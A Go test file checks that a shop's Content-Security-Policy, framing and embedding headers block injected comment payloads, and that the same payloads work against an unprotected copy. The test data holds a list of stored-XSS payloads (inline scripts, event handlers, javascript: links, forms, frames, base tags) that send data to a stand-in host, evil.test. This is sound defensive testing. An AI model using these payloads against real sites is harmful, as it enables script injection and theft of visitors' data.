package browser

import (
	"net/http"
	"reflect"
	"testing"

	"authz/internal/shop"
)

const bare = "https://bare.example.test"

// attack is something that a visitor wrote into a comment, and the shop prints.
type attack struct {
	name      string
	comment   string
	trigger   string // a script that does what a visitor's click would
	directive string // of the policy, by which the browser stops it
}

const steal = `fetch('https://evil.test/steal', {mode: 'no-cors'})`

var attacks = []attack{
	{"an inline script", `<script>` + steal + `</script>`, "", "script-src-elem"},
	{"a script of other people", `<script src="https://evil.test/steal.js"></script>`, "", "script-src-elem"},
	{"a script in a URL of its own", `<script src="data:text/javascript,` + steal + `"></script>`, "", "script-src-elem"},
	{"an event handler", `<img src="/none" onerror="` + steal + `">`, "", "script-src-attr"},
	{"an event handler of a picture", `<svg onload="` + steal + `"></svg>`, "", "script-src-attr"},
	{"a link that is a script", `<a id="x" href="javascript:` + steal + `">win</a>`, "x.click()", "script-src-elem"},
	{"a form to other people", `<form id="x" method="post" action="https://evil.test/steal"></form>`, "x.submit()", "form-action"},
	{"a picture of other people", `<img src="https://evil.test/steal">`, "", "img-src"},
	{"a frame of other people", `<iframe src="https://evil.test/steal"></iframe>`, "", "frame-src"},
	{"an object of other people", `<object data="https://evil.test/steal"></object>`, "", "object-src"},
	{"another base", `<base href="https://evil.test/">`, "new Image().src = 'steal'", "base-uri"},
}

// What the shop prints unescaped, the browser does not run: the policy in the headers
// forbids it, and says by which directive. The shop's own script runs.
func TestInjectedScript(t *testing.T) {
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			s := newShop()
			s.Comments = []shop.Comment{{Author: "eve", Text: a.comment}}
			world.shop.serve(s)
			world.others.forget()
			p := open(t, "")
			p.before(`window.stopped = new Promise(resolve => addEventListener('securitypolicyviolation', e => resolve(e.effectiveDirective), {once: true}))`)
			p.visit(api + "/comments")
			if a.trigger != "" {
				run[any](p, a.trigger+"; 0")
			}
			if got := run[string](p, "stopped"); got != a.directive {
				t.Errorf("stopped by %q, want %q", got, a.directive)
			}
			if got := run[string](p, "document.documentElement.dataset.script"); got != "ran" {
				t.Error("the shop's own script did not run")
			}
			p.visit("https://evil.test/last") // what was on its way has come by now
			if got := world.others.seen(evil); !reflect.DeepEqual(got, []string{"GET /last"}) {
				t.Errorf("the attacker saw %q", got)
			}
		})
	}
}

// The same comments do their work on the bare shop.
func TestInjectedScriptRunsOnTheBareShop(t *testing.T) {
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			s := newShop()
			s.Comments = []shop.Comment{{Author: "eve", Text: a.comment}}
			world.shop.serve(s)
			world.others.forget()
			p := open(t, bare+"/comments")
			if a.trigger != "" {
				run[any](p, a.trigger+"; 0")
			}
			world.others.await(t, evil)
		})
	}
}

func evil(v visit) bool { return v.Host == "evil.test" && v.Path != "/favicon.ico" }

// No page of other people shows the shop in a frame, where a visitor's clicks could be
// stolen: the browser drops what it was answered. A page that is shown runs the shop's
// script, which the shop sees asked for.
func TestFraming(t *testing.T) {
	for _, c := range []struct {
		name, page, framed string
		shown              bool
	}{
		{"by a stranger", "https://evil.test/", api + "/", false},
		{"by a neighbour", "https://blog.example.test/", api + "/", false},
		{"by a listed origin", "https://partner.example.test/", api + "/", false},
		{"by the shop", api + "/", api + "/login", false},
		{"a refusal", "https://evil.test/", api + "/admin", false},
		{"a page that is not there", "https://evil.test/", api + "/nothing", false},
		{"the bare shop", "https://evil.test/", bare + "/", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			p := open(t, c.page)
			world.shop.serve(newShop())
			failure := p.failure("GET", c.framed)
			run[any](p, `new Promise(resolve => {
				const frame = document.createElement('iframe')
				frame.src = `+quote(c.framed)+`
				frame.onload = () => resolve(0)
				document.body.append(frame)
			})`)
			if shown := len(world.shop.seen(func(v visit) bool { return v.Path == "/app.js" })) > 0; shown != c.shown {
				t.Errorf("shown: %v, want %v", shown, c.shown)
			}
			if c.shown {
				return
			}
			if got := failure(); got != "net::ERR_BLOCKED_BY_RESPONSE" {
				t.Errorf("the browser says %q", got)
			}
		})
	}
}

// Other people's pages may not use the shop's script and answers as their own parts,
// where a timing side channel could read them.
func TestEmbedding(t *testing.T) {
	for _, c := range []struct{ name, page, script, want string }{
		{"by the shop", api + "/", api + "/app.js", "load"},
		{"by a neighbour", "https://blog.example.test/", api + "/app.js", "error"},
		{"by a stranger", "https://evil.test/", api + "/app.js", "error"},
		{"the bare shop", "https://evil.test/", bare + "/app.js", "load"},
	} {
		t.Run(c.name, func(t *testing.T) {
			world.shop.serve(newShop())
			p := open(t, c.page)
			got := run[string](p, `new Promise(resolve => {
				const script = document.createElement('script')
				script.src = `+quote(c.script)+`
				script.onload = script.onerror = e => resolve(e.type)
				document.head.append(script)
			})`)
			if got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

// Logging in and out through the shop's own pages, cookie and all, just works.
func TestOwnSession(t *testing.T) {
	world.shop.serve(newShop())
	p := open(t, "")
	p.logIn("alice")
	if got := p.fetch("/orders", nil); got.Status != http.StatusOK {
		t.Errorf("with the cookie: %d", got.Status)
	}
	p.leave("document.forms.logout.submit()")
	if got := p.fetch("/orders", nil); got.Status != http.StatusUnauthorized {
		t.Errorf("after logging out: %d", got.Status)
	}
}
